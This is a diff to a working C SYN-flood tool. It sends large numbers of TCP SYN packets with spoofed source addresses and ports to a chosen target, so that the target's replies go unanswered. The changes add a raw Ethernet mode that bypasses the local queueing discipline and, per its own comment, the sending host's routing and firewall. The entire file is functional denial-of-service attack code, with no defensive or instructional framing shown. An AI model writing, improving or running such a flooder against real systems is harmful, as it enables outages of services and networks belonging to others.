@@ -1,86 +1,106 @@
 // SPDX-License-Identifier: GPL-2.0-or-later
 /*
- * synflood SOURCE TARGET PORT N: sends N SYNs, from N different ports and 32
- * addresses from SOURCE on. Nobody has these addresses, so nobody answers what
- * the target says. As fast as the device takes them.
+ * synflood SOURCE TARGET PORT N [DEVICE LLADDR]: sends N SYNs, from up to 60000
+ * different ports of 32 addresses from SOURCE on. Nobody has these addresses,
+ * so nobody answers what the target says. As fast as the device takes them;
+ * with DEVICE as frames to LLADDR, past this host's own routing and firewall.
  */
 #include <arpa/inet.h>
-#include <netinet/ip.h>
-#include <netinet/tcp.h>
+#include <net/ethernet.h>
+#include <net/if.h>
+#include <netinet/ether.h>
+#include <linux/if_packet.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/socket.h>
 
-struct packet {
-	struct iphdr ip;
-	struct tcphdr tcp;
+#include "rawtcp.h"
+
+struct way {
+	int fd;
+	const struct sockaddr *to;
+	socklen_t len;
 };
 
-static uint32_t add(uint32_t sum, const void *data, size_t len)
-{
-	const uint8_t *p = data;
-	size_t i;
-
-	for (i = 0; i < len; i += 2)
-		sum += p[i] << 8 | p[i + 1];
-	return sum;
-}
-
-/* What a pseudo header and a TCP header sum up to (RFC 9293 3.1). */
-static uint16_t tcp_sum(const struct packet *p)
-{
-	uint32_t sum = IPPROTO_TCP + sizeof(p->tcp);
-
-	sum = add(sum, &p->ip.saddr, 2 * sizeof(p->ip.saddr));
-	sum = add(sum, &p->tcp, sizeof(p->tcp));
-	sum = (sum & 0xffff) + (sum >> 16);
-	sum = (sum & 0xffff) + (sum >> 16);
-	return htons(~sum);
-}
-
-/* The kernel fills in the rest of the IP header. */
-static void make(struct packet *p, in_addr_t from, unsigned int i)
+static void make(struct rawtcp *p, in_addr_t from, unsigned int i)
 {
 	p->ip.saddr = htonl(ntohl(from) + i % 32);
 	p->tcp.source = htons(1024 + i % 60000);
 	p->tcp.seq = htonl(i * 2654435761U);
-	p->tcp.check = 0;
-	p->tcp.check = tcp_sum(p);
+	rawtcp_finish(p);
+}
+
+static int open_ip(struct way *w, in_addr_t target)
+{
+	static struct sockaddr_in to = { .sin_family = AF_INET };
+
+	to.sin_addr.s_addr = target;
+	w->to = (const struct sockaddr *)&to;
+	w->len = sizeof(to);
+	w->fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+	return w->fd < 0;
+}
+
+static int open_device(struct way *w, const char *device, const char *lladdr)
+{
+	static struct sockaddr_ll to = {
+		.sll_family = AF_PACKET,
+		.sll_halen = ETH_ALEN,
+	};
+	const struct ether_addr *mac = ether_aton(lladdr);
+	int on = 1;
+
+	to.sll_protocol = htons(ETH_P_IP);
+	to.sll_ifindex = (int)if_nametoindex(device);
+	if (!mac || !to.sll_ifindex)
+		return 1;
+	memcpy(to.sll_addr, mac, ETH_ALEN);
+	w->to = (const struct sockaddr *)&to;
+	w->len = sizeof(to);
+	w->fd = socket(AF_PACKET, SOCK_DGRAM, 0);
+	return w->fd < 0 || setsockopt(w->fd, SOL_PACKET, PACKET_QDISC_BYPASS,
+				       &on, sizeof(on));
+}
+
+static unsigned int flood(const struct way *w, in_addr_t from, in_addr_t target,
+			  const char *port, unsigned int n)
+{
+	unsigned int i, sent = 0;
+	struct rawtcp p;
+
+	rawtcp_init(&p, from, target);
+	p.tcp.dest = htons(atoi(port));
+	p.tcp.syn = 1;
+	for (i = 0; i < n; i++) {
+		make(&p, from, i);
+		sent += sendto(w->fd, &p, sizeof(p), 0, w->to, w->len) ==
+			sizeof(p);
+	}
+	return sent;
 }
 
 int main(int argc, char **argv)
 {
-	struct packet p = {
-		.ip = { .version = 4, .ihl = 5, .ttl = 64,
-			.protocol = IPPROTO_TCP },
-		.tcp = { .doff = 5, .syn = 1 },
-	};
-	struct sockaddr_in to = { .sin_family = AF_INET };
-	in_addr_t from;
-	unsigned int i, n, sent = 0;
-	int fd;
+	struct in_addr from, target;
+	unsigned int n, sent;
+	struct way w;
 
-	if (argc != 5 || inet_pton(AF_INET, argv[1], &from) != 1 ||
-	    inet_pton(AF_INET, argv[2], &to.sin_addr) != 1) {
-		fputs("synflood SOURCE TARGET PORT N\n", stderr);
+	if ((argc != 5 && argc != 7) ||
+	    inet_pton(AF_INET, argv[1], &from) != 1 ||
+	    inet_pton(AF_INET, argv[2], &target) != 1) {
+		fputs("synflood SOURCE TARGET PORT N [DEVICE LLADDR]\n",
+		      stderr);
 		return 2;
 	}
-	p.ip.daddr = to.sin_addr.s_addr;
-	p.tcp.dest = htons(atoi(argv[3]));
-	p.tcp.window = htons(65535);
-	n = atoi(argv[4]);
-	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
-	if (fd < 0) {
-		perror("socket");
+	if (argc == 7 ? open_device(&w, argv[5], argv[6]) :
+			open_ip(&w, target.s_addr)) {
+		perror("synflood");
 		return 1;
 	}
-	for (i = 0; i < n; i++) {
-		make(&p, from, i);
-		sent += sendto(fd, &p, sizeof(p), 0, (struct sockaddr *)&to,
-			       sizeof(to)) == sizeof(p);
-	}
+	n = (unsigned int)atoi(argv[4]);
+	sent = flood(&w, from.s_addr, target.s_addr, argv[3], n);
 	printf("%u sent\n", sent);
 	return sent != n;
 }
